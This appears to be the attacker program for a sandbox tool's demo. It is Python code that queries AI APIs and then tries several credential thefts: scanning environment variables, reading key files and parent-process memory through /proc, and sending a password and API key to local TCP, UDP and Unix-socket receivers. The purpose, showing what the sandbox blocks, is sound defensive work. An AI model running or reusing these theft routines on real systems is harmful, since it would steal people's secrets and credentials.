"""The program that `nono demo` runs, once without nono and once with it: it works, then it steals.

It knows what any agent knows: its environment, and in ORDERS (a JSON file, its only argument) what an informed thief
would have found out by himself: where the key file is, and where stolen things are to be sent. Standard output is one
JSON document per line, for the demo to judge; an attempt counts as a theft by its evidence, not by this program's word.

Run as a script, with the standard library only: it must be able to run where nono's own files cannot be read.
"""

from __future__ import annotations

import ctypes
import errno
import http.client
import json
import os
import platform
import re
import socket
import ssl
import sys
import time
import urllib.parse
from collections.abc import Callable, Iterator
from typing import Any

KEY = re.compile(rb"sk-demo-[a-z]+-[0-9a-f]{16}")  # the shape of the demo's keys, as a thief would know OpenAI's

QUESTIONS = {
    "openai": ("/chat/completions", {"model": "stand-in-1", "stream": True, "messages": []}),
    "anthropic": ("/v1/messages", {"model": "stand-in-1", "stream": True, "max_tokens": 64, "messages": []}),
    "gemini": ("/v1beta/models/stand-in-1:streamGenerateContent?alt=sse", {"contents": []}),
}

_TIMEOUT_S = 2.0


def main() -> None:
    """Ask every service, then try every theft of the orders; print one line for each."""
    with open(sys.argv[1], encoding="utf-8") as file:
        orders = json.load(file)
    for name, variables in orders["services"].items():
        key, base_url = (os.environ.get(variable, "") for variable in variables)
        _tell(asked=name, held=key, **ask(name, base_url, key))
    for name in orders["thefts"]:
        _tell(tried=name, **attempt(THEFTS[name], orders))


def _tell(**fields: object) -> None:
    print(json.dumps(fields), flush=True)


def ask(name: str, base_url: str, key: str) -> dict[str, object]:
    """Ask one service for a streamed answer, as its SDK would; return its text, and when its pieces came."""
    headers = {
        "openai": {"Authorization": f"Bearer {key}"},
        "anthropic": {"x-api-key": key, "anthropic-version": "2023-06-01"},
        "gemini": {"x-goog-api-key": key},
    }[name]
    endpoint, question = QUESTIONS[name]
    start = time.monotonic()
    pieces, times = [], []
    try:
        url = urllib.parse.urlsplit(base_url)
        kind = http.client.HTTPSConnection if url.scheme == "https" else http.client.HTTPConnection
        connection = kind(url.netloc, timeout=10)
        connection.request("POST", url.path + endpoint, json.dumps(question), headers)
        response = connection.getresponse()
        if response.status != 200:
            return {"status": response.status, "error": response.read(2000).decode(errors="replace")}
        for event in _events(response):
            if piece := _text(name, event):
                pieces.append(piece)
                times.append(round((time.monotonic() - start) * 1000, 1))
        connection.close()
    except (OSError, ValueError, http.client.HTTPException) as error:
        return {"status": 0, "error": f"{type(error).__name__}: {error}"}
    return {"status": 200, "text": "".join(pieces), "pieces": len(pieces), "ms": [times[0], times[-1]] if times else []}


def _events(response: http.client.HTTPResponse) -> Iterator[Any]:
    for line in response:
        if line.startswith(b"data: {"):
            yield json.loads(line[6:])


def _text(name: str, event: Any) -> str:
    if name == "openai":
        return str(event["choices"][0]["delta"].get("content") or "")
    if name == "anthropic":
        return str(event.get("delta", {}).get("text") or "")
    return "".join(part["text"] for part in event["candidates"][0]["content"]["parts"])


def attempt(theft: Callable[[dict[str, Any]], bytes], orders: dict[str, Any]) -> dict[str, object]:
    """Try one theft; return its evidence, or the error number that stopped it."""
    try:
        return {"loot": theft(orders).decode(errors="replace")}
    except ssl.SSLError as error:  # an OSError, whose errno would be no errno
        return {"loot": "", "says": str(error)}
    except OSError as error:
        return {"loot": "", "errno": error.errno or 0, "says": str(error)}


# The thefts. Each returns what it got hold of (b"" for nothing) or lets the kernel's refusal, an OSError, pass.


def environment(orders: dict[str, Any]) -> bytes:
    return _find_key(b"\0".join(name + b"=" + value for name, value in os.environb.items()))


def key_file(orders: dict[str, Any]) -> bytes:
    with open(orders["key_file"], "rb") as file:
        return file.read()


def parent_environment(orders: dict[str, Any]) -> bytes:
    with open(f"/proc/{os.getppid()}/environ", "rb") as file:
        return file.read(200)


def parent_memory(orders: dict[str, Any]) -> bytes:
    memory = os.open(f"/proc/{os.getppid()}/mem", os.O_RDONLY)
    with open(f"/proc/{os.getppid()}/maps", encoding="utf-8") as maps:
        regions = [line.split(None, 1) for line in maps if " rw" in line]
    for region, _ in regions:
        start, end = (int(text, 16) for text in region.split("-"))
        try:
            if key := _find_key(os.pread(memory, end - start, start)):
                return key
        except OSError:
            continue  # one region that cannot be read (a device's) says nothing about the others
    return b""


def tcp(orders: dict[str, Any]) -> bytes:
    with socket.create_connection(("127.0.0.1", orders["tcp_port"]), _TIMEOUT_S) as connection:
        connection.sendall(_message(orders))
        return connection.recv(100)


def udp(orders: dict[str, Any]) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(_TIMEOUT_S)
        sender.sendto(_message(orders), ("127.0.0.1", orders["udp_port"]))
        return sender.recv(100)


def unix_socket(orders: dict[str, Any]) -> bytes:
    return _ask_unix_socket(orders["unix_socket"], _message(orders))


def session_bus(orders: dict[str, Any]) -> bytes:
    return _ask_unix_socket(orders["session_bus"], b"\0AUTH\r\n")


def kernel_keyring(orders: dict[str, Any]) -> bytes:
    call = {"x86_64": 250, "aarch64": 219}[platform.machine()]  # keyctl(2)
    libc = ctypes.CDLL(None, use_errno=True)
    get_keyring_id, user_keyring = 0, -4
    serial = libc.syscall(call, get_keyring_id, user_keyring, 1)
    if serial < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return b"keyring %d" % serial


def _message(orders: dict[str, Any]) -> bytes:
    return f"{orders['password']} {os.environ.get('OPENAI_API_KEY', '')}\n".encode()


def _ask_unix_socket(path: str, question: bytes) -> bytes:
    if not hasattr(socket, "AF_UNIX"):
        raise OSError(errno.EAFNOSUPPORT, os.strerror(errno.EAFNOSUPPORT))
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.settimeout(_TIMEOUT_S)
        connection.connect(path)
        connection.sendall(question)
        return connection.recv(100)


def _find_key(text: bytes) -> bytes:
    found = KEY.search(text)
    return found[0] if found else b""


THEFTS: dict[str, Callable[[dict[str, Any]], bytes]] = {
    theft.__name__: theft
    for theft in (
        environment,
        key_file,
        parent_environment,
        parent_memory,
        tcp,
        udp,
        unix_socket,
        session_bus,
        kernel_keyring,
    )
}

if __name__ == "__main__":
    main()
